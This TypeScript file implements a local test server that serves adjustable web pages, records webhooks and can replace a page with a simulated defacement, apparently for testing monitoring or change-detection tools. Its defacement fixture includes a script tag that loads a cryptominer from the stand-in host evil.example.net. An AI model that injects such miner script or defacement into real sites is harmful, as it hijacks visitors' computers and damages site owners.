/**
 * A loopback page farm for tests, benchmarks and demos: serves pages whose
 * body, status code and delay can be changed at run time, and records
 * webhook deliveries.
 *
 * Control API (for people and scripts): `PUT /_control/pages/<path>` with an
 * HTML body sets a page, `POST /_control/status/<path>?code=500` sets its
 * status, `POST /_control/deface/<path>` injects a defacement,
 * `POST /_control/restore/<path>` puts the original back, `GET /_control/webhooks`
 * lists the webhook requests received at `/_webhook`.
 *
 * @since 0.1.0
 */
import { createServer, type IncomingMessage, type Server } from "node:http"
import type { AddressInfo } from "node:net"

/**
 * One page of the farm.
 *
 * @since 0.1.0
 */
export interface FarmPage {
  html: string
  status: number
  delayMs: number
  original: string
}

/**
 * A webhook request the farm received.
 *
 * @since 0.1.0
 */
export interface ReceivedWebhook {
  readonly headers: Record<string, string | string[] | undefined>
  readonly body: string
  readonly at: number
}

/**
 * A running farm.
 *
 * @since 0.1.0
 */
export interface PageFarm {
  readonly port: number
  readonly baseUrl: string
  readonly url: (path: string) => string
  readonly set: (path: string, html: string) => void
  readonly status: (path: string, code: number) => void
  readonly delay: (path: string, ms: number) => void
  readonly deface: (path: string) => void
  readonly restore: (path: string) => void
  readonly webhooks: ReadonlyArray<ReceivedWebhook>
  /** requests served, per path */
  readonly hits: (path: string) => number
  readonly close: () => Promise<void>
}

/**
 * A page with a realistic shape (navigation, scripts, styles, text).
 *
 * @since 0.1.0
 */
export const samplePage = (n: number): string => `<!doctype html>
<html><head><title>Example site page ${n}</title>
<link rel="stylesheet" href="/static/site.css">
<script src="/static/app.js"></script></head>
<body><div class="nav"><a href="/">Home</a> <a href="/about">About</a> <a href="/contact">Contact</a></div>
<div class="main"><h1>Welcome to page ${n}</h1>
<p>Our company has served customers since 1998 with reliable products and friendly support.</p>
<p>Read the latest news about our services, our team and the communities we work with every day.</p>
<p>Call us on +1 555 010 ${String(1000 + n).slice(-4)} or write to the office for any question about your order.</p>
<img src="/static/logo.png" alt="logo"></div>
<div class="footer"><a href="/privacy">Privacy</a> <a href="/terms">Terms</a></div></body></html>`

/**
 * What `deface` does to a page: the classic signed defacement.
 *
 * @since 0.1.0
 */
export const defacement = `<!doctype html><html><head><title>HACKED BY x0r</title></head>
<body style="background:black"><h1>Hacked by x0r</h1><p>Your security is low. Greetz to all.</p>
<script src="https://evil.example.net/miner.js"></script></body></html>`

const readBody = (req: IncomingMessage) =>
  new Promise<string>((resolve) => {
    const chunks: Array<Buffer> = []
    req.on("data", (c: Buffer) => chunks.push(c))
    req.on("end", () => resolve(Buffer.concat(chunks).toString("utf8")))
  })

/**
 * Starts a farm on 127.0.0.1 (port 0 = any free port).
 *
 * @since 0.1.0
 */
export const start = (options: { readonly port?: number; readonly pages?: Record<string, string> } = {}): Promise<PageFarm> =>
  new Promise((resolve, reject) => {
    const pages = new Map<string, FarmPage>()
    const hits = new Map<string, number>()
    const webhooks: Array<ReceivedWebhook> = []
    const put = (path: string, html: string) => {
      const existing = pages.get(path)
      pages.set(path, { html, status: existing?.status ?? 200, delayMs: existing?.delayMs ?? 0, original: html })
    }
    for (const [path, html] of Object.entries(options.pages ?? {})) put(path, html)
    const page = (path: string) => {
      const p = pages.get(path)
      if (p === undefined) throw new Error(`no page at ${path}`)
      return p
    }

    const server: Server = createServer(async (req, res) => {
      const url = new URL(req.url ?? "/", "http://farm")
      const path = url.pathname
      if (path === "/_webhook") {
        webhooks.push({ headers: req.headers, body: await readBody(req), at: Date.now() })
        res.writeHead(200, { "content-type": "application/json" }).end("{\"ok\":true}")
        return
      }
      if (path.startsWith("/_control/")) {
        const [, , action, ...rest] = path.split("/")
        const target = "/" + rest.join("/")
        try {
          if (action === "pages" && req.method === "PUT") put(target, await readBody(req))
          else if (action === "status") page(target).status = Number(url.searchParams.get("code") ?? 200)
          else if (action === "deface") page(target).html = defacement
          else if (action === "restore") {
            const p = page(target)
            p.html = p.original
            p.status = 200
          } else if (action === "webhooks") {
            res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(webhooks))
            return
          } else {
            res.writeHead(404).end()
            return
          }
          res.writeHead(204).end()
        } catch (e) {
          res.writeHead(404, { "content-type": "text/plain" }).end(String(e))
        }
        return
      }
      hits.set(path, (hits.get(path) ?? 0) + 1)
      if (path.startsWith("/static/")) {
        res.writeHead(200, { "content-type": "text/plain" }).end("")
        return
      }
      const p = pages.get(path)
      if (p === undefined) {
        res.writeHead(404, { "content-type": "text/html" }).end("<h1>not found</h1>")
        return
      }
      const send = () => res.writeHead(p.status, { "content-type": "text/html; charset=utf-8" }).end(p.html)
      if (p.delayMs > 0) setTimeout(send, p.delayMs)
      else send()
    })
    server.keepAliveTimeout = 1000
    server.on("error", reject)
    server.listen(options.port ?? 0, "127.0.0.1", () => {
      const port = (server.address() as AddressInfo).port
      const baseUrl = `http://127.0.0.1:${port}`
      resolve({
        port,
        baseUrl,
        url: (path) => `${baseUrl}${path}`,
        set: put,
        status: (path, code) => {
          page(path).status = code
        },
        delay: (path, ms) => {
          page(path).delayMs = ms
        },
        deface: (path) => {
          page(path).html = defacement
        },
        restore: (path) => {
          const p = page(path)
          p.html = p.original
          p.status = 200
        },
        webhooks,
        hits: (path) => hits.get(path) ?? 0,
        close: () =>
          new Promise<void>((done) => {
            server.closeAllConnections()
            server.close(() => done())
          })
      })
    })
  })
